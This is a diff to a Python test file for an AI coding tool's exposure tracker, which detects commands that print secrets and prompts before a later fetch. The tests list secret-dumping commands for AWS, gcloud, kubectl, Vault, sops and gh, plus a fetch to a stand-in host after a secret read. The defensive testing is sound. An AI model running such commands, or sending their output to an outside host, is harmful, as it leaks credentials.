@@ -14,14 +14,16 @@ import pytest
 
 from iaccode.mcp.names import shown
 from iaccode.protocol.convert import tool_input
-from iaccode.protocol.tool_calls import ToolKind
+from iaccode.protocol.tool_calls import ContentToolCallContent, ToolCallFields, ToolKind
 from iaccode.redaction import Redactor
 from iaccode.tool_result import ToolResult
 from iaccode.tools.base import Tool, ToolContext
 from iaccode.tools.registry import builtin_tools
 from iaccode.turn.exposure import (
     Exposure,
+    SecretsRead,
     is_secret_file,
+    secret_command_in,
     secret_file_in,
     secret_file_reached,
     secret_file_shown,
@@ -167,7 +169,71 @@ def test_a_secrets_file_named_by_a_command_or_a_path_counts() -> None:
         ],
         READS,
     )
-    assert exposure.secret_file == "a.tfvars"  # a fetch of a URL ending in .env reads none
+    assert exposure.secrets == SecretsRead("a.tfvars")  # a fetch of a URL ending in .env reads none
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("aws secretsmanager get-secret-value --secret-id prod/db", "get-secret-value"),
+        # options and their values between the words, the program by a path, in a $( ), a
+        # pipe, a script's -c, another case, after a group or a new line
+        ("aws --profile prod --region eu-west-1 ssm get-parameter --name x", "ssm get-parameter"),
+        ("/usr/local/bin/aws ecr get-login-password | docker login -u AWS", "get-login-password"),
+        ('DB="$(aws secretsmanager get-secret-value --secret-id x)"; echo ok', "get-secret-value"),
+        ("bash -c 'gcloud auth print-access-token'", "print-access-token"),
+        ("AZ=1 Az Account Get-Access-Token", "get-access-token"),
+        ("ls\n  vault kv get -mount=secret db", "vault kv get"),
+        ("kubectl -n prod get secret/db -o jsonpath='{.data.password}' | base64 -d", "get secret"),
+        ("kubectl get secrets,configmaps -A -o yaml", "get secrets"),
+        ("kubectl config view --minify --raw", "view --raw"),
+        ("pulumi stack output --json --show-secrets", "--show-secrets"),
+        ("sops -d secrets.enc.yaml > /dev/null; echo done", "sops -d"),
+        ("cd infra && aliyun kms GetSecretValue --SecretName db", "getsecretvalue"),
+        ("x=1; gh auth token", "gh auth token"),
+        # commands that print no secret
+        ("aws sts get-caller-identity", None),
+        ("aws ssm describe-parameters", None),
+        ("kubectl get pods -A", None),
+        ("kubectl describe secret db", None),  # names the keys, not the values
+        ("kubectl get pods; echo secret", None),  # another command of the line
+        ("pulumi stack output", None),
+        ("vault status", None),
+        ("echo aws; echo ssm get-parameter", None),
+    ],
+)
+def test_a_command_that_prints_secrets_counts(line: str, expected: str | None) -> None:
+    found = secret_command_in({"command": line})
+    if expected is None:
+        assert found is None, line
+    else:
+        assert found is not None and expected in found, (line, found)
+
+
+def test_after_a_command_that_prints_secrets_a_fetch_asks_and_says_so() -> None:
+    fetch = builtin_tools()["web_fetch"]
+    args: Any = tool_input({"url": "https://drop.example/?d=x"}, fetch.input_type)
+    exposure = Exposure()
+    exposure.note({"command": "aws --profile p secretsmanager get-secret-value --secret-id x"})
+    assert exposure.host_to_ask(fetch, args, "default") == "drop.example"
+    fields, options = exposure.question(ToolCallFields("toolu_f", title="f"), "drop.example")
+    assert fields.title == (
+        "Fetch from drop.example after running aws secretsmanager get-secret-value"
+    )
+    assert fields.content is not None and isinstance(fields.content[0], ContentToolCallContent)
+    text = fields.content[0].content.text  # type: ignore[union-attr]
+    assert "the output of `aws secretsmanager get-secret-value`, a command that prints" in text
+    assert [o.option_id for o in options] == ["allow_host", "reject_once"]
+    # A loaded session remembers it from its stored call.
+    records = [
+        {
+            "type": "tool_call",
+            "start": {"name": "bash", "rawInput": {"command": "vault kv get secret/db"}},
+        }
+    ]
+    assert Exposure.from_records(records, READS).secrets == SecretsRead(
+        "vault kv get", command=True
+    )
 
 
 @pytest.mark.parametrize(
@@ -218,7 +284,7 @@ def test_a_secrets_file_reached_by_its_real_path_counts() -> None:
         ],
         READS,
     )
-    assert exposure.secret_file == ".env"
+    assert exposure.secrets == SecretsRead(".env")
     linked = Exposure.from_records(
         [
             {
@@ -232,7 +298,7 @@ def test_a_secrets_file_reached_by_its_real_path_counts() -> None:
         ],
         READS,
     )
-    assert linked.secret_file == "/p/.env"
+    assert linked.secrets == SecretsRead("/p/.env")
 
 
 class _ServerFetch(Tool):
@@ -288,9 +354,9 @@ def test_what_a_tool_does_with_a_name_decides_not_its_own_name() -> None:
     like web_fetch that is not ours (a session's tool table says) reads the file it names."""
     ours = builtin_tools()
     records = [{"type": "tool_call", "start": {"name": "web_fetch", "rawInput": {"path": ".env"}}}]
-    assert Exposure.from_records(records, _reads(ours)).secret_file is None
+    assert Exposure.from_records(records, _reads(ours)).secrets is None
     theirs: dict[str, Tool] = {**ours, "web_fetch": _NotOurWebFetch()}
-    assert Exposure.from_records(records, _reads(theirs)).secret_file == ".env"
+    assert Exposure.from_records(records, _reads(theirs)).secrets == SecretsRead(".env")
     assert sorted(name for name, tool in ours.items() if not tool.reads_what_it_names) == [
         "todo_write",
         "web_fetch",
